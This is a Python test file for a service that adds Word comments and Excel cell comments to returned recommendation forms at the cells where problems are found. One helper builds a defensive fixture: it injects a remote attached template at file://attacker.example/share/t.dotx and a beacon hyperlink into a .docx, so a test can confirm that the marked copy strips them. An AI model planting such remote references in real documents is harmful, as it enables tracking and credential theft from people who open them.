"""Returned files marked up with their problems: Word comments at the right cell, Excel cell comments."""

from __future__ import annotations

import io
import zipfile

from lxml import etree
from openpyxl import load_workbook

from service.parse.pipeline import parse
from service.render.form import render
from service.render.markup import mark, problem_remark, problem_text
from tests.support import docx_edit as de
from tests.support.comments import comment_spans
from tests.support.records import ON_TIME, letter
from tests.support.samples import sample, soffice_convert

W = de.W


def comments_by_cell(content: bytes) -> dict[str, str]:
    """Text of the cell each comment is anchored in → the comment's text."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        body = etree.fromstring(zf.read("word/document.xml"))
        comments = etree.fromstring(zf.read("word/comments.xml"))
    texts = {c.get(W + "id"): de.text_of(c) for c in comments.iter(W + "comment")}
    out = {}
    for start in body.iter(W + "commentRangeStart"):
        holder = next((a for a in start.iterancestors() if a.tag in (W + "tc", W + "p")), None)
        if holder is not None and holder.tag == W + "p" and holder.getparent().tag == W + "tc":
            holder = holder.getparent()
        left = holder.getprevious() if holder is not None and holder.tag == W + "tc" else None
        key = de.text_of(left) if left is not None else de.text_of(holder)
        out[key] = texts[start.get(W + "id")]
    return out


def test_docx_problems_become_comments_beside_their_labels(tmp_path, lo_profile):
    content = de.edit(render("jth-2020", "recommendation_letter", letter(members_total=90)).content,
                      lambda r: de.set_text(de.right_of(r, "手机"), "1390416"))
    result = parse(content, "推荐书.docx", received_at=ON_TIME["jth-2020"]).to_dict()
    marked = mark(content, "docx", result["errors"] + result["warnings"])
    comments = comments_by_cell(marked)
    assert "联系人手机" in comments["手机"] and "FIELD_PATTERN" in comments["手机"]
    assert any("SUM_MISMATCH" in text for text in comments.values())
    path = tmp_path / "批注.docx"
    path.write_bytes(marked)
    pdf = soffice_convert([path], "pdf", tmp_path / "pdf", lo_profile)[0]
    assert pdf.stat().st_size > 0  # the marked-up file opens in an office suite


def test_a_docx_comment_spans_its_value_and_whole_file_problems_the_title():
    content = render("jth-2020", "recommendation_letter", letter(members_total=90, contact_email="zhang@lnpc")).content
    result = parse(content, "推荐书.docx", received_at=ON_TIME["jth-2020"]).to_dict()
    whole = {"code": "LIST_MISSING", "severity": "review", "message": "本推荐单位尚未提交汇总表。"}
    spanned = comment_spans(mark(content, "docx", [*result["errors"], *result["warnings"], whole],
                            title="示范性职业教育集团（联盟）推荐书"))
    assert {text.split("】")[0]: span for text, span in spanned.items()} == {
        "【成员单位总数": "90", "【联系人邮箱": "zhang@lnpc", "本推荐单位尚未提交汇总表。（LIST_MISSING）": "示范性职业教育集团（联盟）推荐书"}


def test_a_value_typed_after_its_label_in_the_same_cell_is_spanned_alone():
    def typed_in_label_cell(root):
        de.unwrap_controls(root)
        de.set_text(de.cells_by_label(root, "手机")[0], "手机：1390416")
        de.set_text(de.right_of(root, "手机：1390416"), "")
    content = de.edit(render("jth-2020", "recommendation_letter", letter()).content, typed_in_label_cell)
    result = parse(content, "推荐书.docx", received_at=ON_TIME["jth-2020"]).to_dict()
    found = next(f for f in result["fields"] if f["path"] == "contact_mobile")
    wrong = next(p for p in result["errors"] if p["path"] == "contact_mobile")
    marked = mark(content, "docx", [problem_remark(wrong, found.get("raw") or found["value"])])
    assert comment_spans(marked) == {problem_text(wrong): "1390416"}  # the run split where the value starts
    assert "手机：1390416" in [de.text_of(p) for p in etree.fromstring(
        zipfile.ZipFile(io.BytesIO(marked)).read("word/document.xml")).iter(W + "p")]  # the text reads as before


def test_xlsx_problems_become_cell_comments_with_highlight():
    rows = sample("summary_table")["rows"]
    rows[1]["contact_phone"] = "12345"
    content = render("jth-2020", "summary_table", dict(sample("summary_table"), rows=rows)).content
    result = parse(content, "汇总表.xlsx", received_at=ON_TIME["jth-2020"]).to_dict()
    marked = mark(content, "xlsx", result["errors"])
    ws = load_workbook(io.BytesIO(marked))["推荐名单汇总表"]
    assert "FIELD_PATTERN" in ws["H7"].comment.text and "联系电话" in ws["H7"].comment.text
    assert ws["H7"].fill.fgColor.rgb.endswith("FFFF00")
    assert ws["H6"].comment is None


def _with_outside_links(content: bytes) -> bytes:
    """The .docx with an attached template on a server (Word fetches it on open) and an outside hyperlink."""
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="file://attacker.example/share/t.dotx" TargetMode="External"/></Relationships>')
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxml'
                                    b'formats.org/officeDocument/2006/relationships/hyperlink" Target="http://'
                                    b'attacker.example/beacon" TargetMode="External"/></Relationships>')
            dst.writestr(info, data)
        if "word/_rels/settings.xml.rels" not in src.namelist():
            dst.writestr("word/_rels/settings.xml.rels", rels)
    return out.getvalue()


def test_the_marked_copy_opens_without_fetching_anything_from_outside():
    content = _with_outside_links(render("jth-2020", "recommendation_letter", letter(contact_email="bad")).content)
    result = parse(content, "推荐书.docx", received_at=ON_TIME["jth-2020"])
    marked = mark(content, "docx", [p.to_dict() for p in result.problems])
    with zipfile.ZipFile(io.BytesIO(marked)) as zf:
        rels = b"".join(zf.read(n) for n in zf.namelist() if n.endswith(".rels"))
    assert b"attacker.example" not in rels and rels.count(b'Target="about:blank"') == 2
    assert comments_by_cell(marked)  # still a marked copy, with its comments
